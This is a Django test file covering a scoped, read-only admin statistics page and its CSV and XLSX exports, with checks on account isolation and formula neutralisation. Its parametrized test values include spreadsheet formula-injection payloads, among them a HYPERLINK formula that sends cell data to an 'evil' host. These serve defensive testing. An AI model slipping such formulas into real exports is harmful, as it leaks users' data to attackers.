"""Statistics in the admin: scoped, read-only, filterable, exported to CSV and XLSX."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.urls import reverse

from participants.exports import csv_cell
from tests.factories import (
    CampaignFactory,
    CampaignFieldFactory,
    ParticipantFactory,
    ParticipationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:participants_participation_changelist")


def export_url(campaign):
    return reverse("admin:participants_participation_export", args=[campaign.pk])


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.fixture
def campaign_a(account):
    campaign = CampaignFactory(account=account, title="Bike contest", slug="bike")
    for position, variable in enumerate(["firstname", "email", "comment"]):
        CampaignFieldFactory(
            campaign=campaign, variable=variable, label_en=variable, position=position
        )
    return campaign


@pytest.fixture
def campaign_b(other_account):
    return CampaignFactory(account=other_account, title="B's secret contest", slug="b-secret")


def test_editor_sees_own_accounts_participations(client, editor_a, campaign_a, campaign_b):
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
    ParticipationFactory(campaign=campaign_b, values={"firstname": "Bob"})
    client.force_login(editor_a)
    response = client.get(CHANGELIST)
    assert response.status_code == 200
    assert "Bike contest" in response.text
    assert "secret contest" not in response.text  # not even in the campaign filter
    assert response.context["cl"].result_count == 1


def test_statistics_are_read_only(client, editor_a, campaign_a):
    participation = ParticipationFactory(campaign=campaign_a)
    client.force_login(editor_a)
    assert client.get(reverse("admin:participants_participation_add")).status_code == 403
    change_url = reverse("admin:participants_participation_change", args=[participation.pk])
    page = client.get(change_url)
    assert page.status_code == 200
    client.post(change_url, {"language": "fr"})
    participation.refresh_from_db()
    assert participation.language == "en"


def test_editor_of_b_cannot_open_as_participation(client, admin_user_b, campaign_a):
    participation = ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
    client.force_login(admin_user_b)
    response = client.get(
        reverse("admin:participants_participation_change", args=[participation.pk])
    )
    assert response.status_code in (302, 404)
    assert "Ada" not in response.text


def test_filters_and_search(client, editor_a, campaign_a):
    participant = ParticipantFactory(account=campaign_a.account, subject="sub-ada")
    ParticipationFactory(
        campaign=campaign_a,
        participant=participant,
        values={"firstname": "Ada", "email": "ada@example.com"},
        prefilled={"firstname": "Ada", "email": "old@example.com"},
        changed=["email"],
    )
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Grace"})
    client.force_login(editor_a)

    def count(**query):
        return client.get(CHANGELIST, query).context["cl"].result_count

    assert count(campaign__id__exact=campaign_a.pk) == 2
    assert count(prefilled="yes") == 1
    assert count(prefilled="no") == 1
    assert count(changed="yes") == 1
    assert count(changed="no") == 1
    assert count(q="sub-ada") == 1
    assert count(q="Grace") == 1


# ---------------------------------------------------------------------------- CSV export
def test_export_has_a_bom_one_column_per_variable_and_the_flags(client, editor_a, campaign_a):
    participant = ParticipantFactory(account=campaign_a.account, subject="sub-ada")
    ParticipationFactory(
        campaign=campaign_a,
        participant=participant,
        values={"firstname": "Zoé", "email": "zoe@example.com", "comment": "Très bien"},
        prefilled={"firstname": "Zoé", "email": "old@example.com"},
        changed=["email"],
        language="fr",
    )
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Grace"})
    client.force_login(editor_a)

    response = client.get(export_url(campaign_a))

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="bike-participations.csv"' in response["Content-Disposition"]
    header, first, second = read_csv(response)
    assert header == [
        "submitted_at",
        "participant_subject",
        "language",
        "firstname",
        "email",
        "comment",
        "prefilled",
        "changed",
        "prefilled_fields",
        "changed_fields",
    ]
    assert first[1:] == [
        "sub-ada",
        "fr",
        "Zoé",
        "zoe@example.com",
        "Très bien",
        "yes",
        "yes",
        "email, firstname",
        "email",
    ]
    assert second[1:] == ["", "en", "Grace", "", "", "no", "no", "", ""]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1-2",
        "-2+3",
        "@SUM(1)",
        "=1+1",
        "  =1+1",  # spreadsheets drop leading spaces before looking for a formula
        " \u00a0@SUM(A1)",
        "\n=1+1",
        "\t=1",
        "\tplain",  # a tab or carriage return first is neutralised whatever follows
        "\r=1",
        pytest.param(
            "\x00=1",
            # Forms refuse NUL; SQLite stores one all the same, PostgreSQL's jsonb cannot.
            marks=pytest.mark.skipif(
                connection.vendor == "postgresql", reason="PostgreSQL cannot store a NUL"
            ),
        ),
        "-",
        "+",
        "--12",
        "-12abc",
        "+32 470 12 34 56",  # not E.164: a spreadsheet runs it (and shows an error)
        "+32470123456\n=1+1",
    ],
)
def test_export_neutralises_spreadsheet_formulas(client, editor_a, campaign_a, value):
    ParticipationFactory(campaign=campaign_a, values={"firstname": value, "comment": "fine"})
    client.force_login(editor_a)
    _header, row = read_csv(client.get(export_url(campaign_a)))
    assert row[3] == "'" + value
    assert row[5] == "fine"


@pytest.mark.parametrize(
    "value",
    [
        "-12",
        "3.5",
        "-0.5",
        "+1e3",
        "-1,5",
        " -12",
        "+32470123456",  # E.164, as CRM imports need it
        "+12025550123",
        "+0470123456",  # not E.164, but a number: no formula either
        "00123",
        "a=b",
        "Ada\n=1+1",  # a line break inside a cell starts no new cell in a spreadsheet
        "ada@example.com",
        "",
    ],
)
def test_export_keeps_numbers_phone_numbers_and_text_as_they_are(
    client, editor_a, campaign_a, value
):
    ParticipationFactory(campaign=campaign_a, values={"firstname": value})
    client.force_login(editor_a)
    _header, row = read_csv(client.get(export_url(campaign_a)))
    assert row[3] == value


def test_export_quotes_every_cell(client, editor_a, campaign_a):
    ParticipationFactory(
        campaign=campaign_a,
        values={"firstname": "Ada", "email": "+32470123456", "comment": 'say "hi",\nthen go'},
        prefilled={"firstname": "Ada"},
    )
    ParticipationFactory(campaign=campaign_a, values={"firstname": "-12"})
    client.force_login(editor_a)
    response = client.get(export_url(campaign_a))
    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    cell = r'"(?:[^"]|"")*"'
    line = rf"{cell}(?:,{cell})*\r\n"
    assert re.fullmatch(rf"(?:{line})+", body), body
    assert body.count("\r\n") == 3
    assert '"+32470123456"' in body and '"-12"' in body and '"no"' in body


def test_csv_cell_keeps_leading_zeros_and_plain_text():
    assert csv_cell("00123") == "00123"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "yes"
    assert csv_cell(["email", "firstname"]) == "email, firstname"


def test_export_of_another_accounts_campaign_is_not_found(client, editor_a, campaign_b):
    ParticipationFactory(campaign=campaign_b, values={"firstname": "Bob"})
    client.force_login(editor_a)
    response = client.get(export_url(campaign_b))
    assert response.status_code == 404
    assert b"Bob" not in response.content


def test_export_needs_an_admin_login(client, campaign_a):
    response = client.get(export_url(campaign_a))
    assert response.status_code == 302
    assert reverse("admin:login") in response["Location"]


def test_export_streams_rows_in_chunks(client, editor_a, campaign_a, django_assert_max_num_queries):
    for index in range(25):
        ParticipationFactory(campaign=campaign_a, values={"firstname": f"P{index}"})
    client.force_login(editor_a)
    response = client.get(export_url(campaign_a))
    # Nothing is read before the body is consumed; then one query streams every row.
    with django_assert_max_num_queries(3):
        rows = read_csv(response)
    assert len(rows) == 26


# ---------------------------------------------------------------------------- XLSX export
def xlsx_export_url(campaign):
    return reverse("admin:participants_participation_export_xlsx", args=[campaign.pk])


def xlsx_body(response) -> bytes:
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return b"".join(response.streaming_content)


def xlsx_cells(body: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows()]


def test_xlsx_export_has_the_csv_columns_and_values(client, admin_user_a, campaign_a):
    participant = ParticipantFactory(account=campaign_a.account, subject="sub-ada")
    ParticipationFactory(
        campaign=campaign_a,
        participant=participant,
        values={"firstname": "Zoé", "email": "zoe@example.com", "comment": "00123"},
        prefilled={"firstname": "Zoé", "email": "old@example.com"},
        changed=["email"],
        language="fr",
    )
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Grace"})
    client.force_login(admin_user_a)

    response = client.get(xlsx_export_url(campaign_a))

    body = xlsx_body(response)
    assert 'filename="bike-participations.xlsx"' in response["Content-Disposition"]
    csv_rows = read_csv(client.get(export_url(campaign_a)))
    rows = xlsx_cells(body)
    assert [[cell.value or "" for cell in row] for row in rows] == csv_rows
    # Every cell is text, the time included: ISO 8601 with its UTC offset, as in the CSV.
    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
    assert rows[1][0].value.endswith("+00:00")


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "=1+1",
        "+32470123456",
        "+32 470 12 34 56",
        "-12",
        "@SUM(1)",
        "#N/A",
        "  =1+1",
    ],
)
def test_xlsx_export_keeps_every_value_as_literal_text(client, editor_a, campaign_a, value):
    ParticipationFactory(campaign=campaign_a, values={"firstname": value})
    client.force_login(editor_a)
    body = xlsx_body(client.get(xlsx_export_url(campaign_a)))
    cell = xlsx_cells(body)[1][3]
    assert cell.data_type == "s"
    assert cell.value == value  # no leading ': a text cell is never run
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_export_drops_control_characters_it_cannot_hold(client, editor_a, campaign_a):
    ParticipationFactory(campaign=campaign_a, values={"firstname": "A\x01da\x0b"})
    client.force_login(editor_a)
    assert xlsx_cells(xlsx_body(client.get(xlsx_export_url(campaign_a))))[1][3].value == "Ada"


def test_xlsx_export_of_another_accounts_campaign_is_not_found(
    client, admin_user_b, campaign_a, campaign_b
):
    CampaignFieldFactory(campaign=campaign_b, variable="firstname")
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
    ParticipationFactory(campaign=campaign_b, values={"firstname": "Bob"})
    client.force_login(admin_user_b)
    response = client.get(xlsx_export_url(campaign_a))
    assert response.status_code == 404
    assert b"Ada" not in response.content
    # Their own campaign's export holds their participations only.
    values = [
        cell.value
        for row in xlsx_cells(xlsx_body(client.get(xlsx_export_url(campaign_b))))
        for cell in row
    ]
    assert "Bob" in values and "Ada" not in values


def test_xlsx_export_needs_a_role_in_the_account(client, campaign_a, staff_user):
    ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
    response = client.get(xlsx_export_url(campaign_a))
    assert response.status_code == 302
    assert reverse("admin:login") in response["Location"]
    client.force_login(UserFactory(username="no-role"))  # staff flag, no membership
    assert client.get(xlsx_export_url(campaign_a)).status_code in (403, 404)
    client.force_login(staff_user)  # platform staff export every account's
    assert xlsx_body(client.get(xlsx_export_url(campaign_a)))


def test_a_participations_answers_read_yes_or_no_and_say_what_the_idp_gave(
    client, editor_a, campaign_a
):
    participation = ParticipationFactory(
        campaign=campaign_a,
        values={"firstname": "Ada", "optin_newsletter": True, "city": "Namur"},
        prefilled={"optin_newsletter": False, "city": "Liège"},
        changed=["optin_newsletter", "city"],
    )
    client.force_login(editor_a)
    page = client.get(
        reverse("admin:participants_participation_change", args=[participation.pk])
    ).text
    answers = page[page.index('class="answers"') :]
    assert "<td>yes</td><td>Changed (was: no)</td>" in answers
    assert "<td>Namur</td><td>Changed (was: Liège)</td>" in answers
    assert "True" not in answers and "False" not in answers
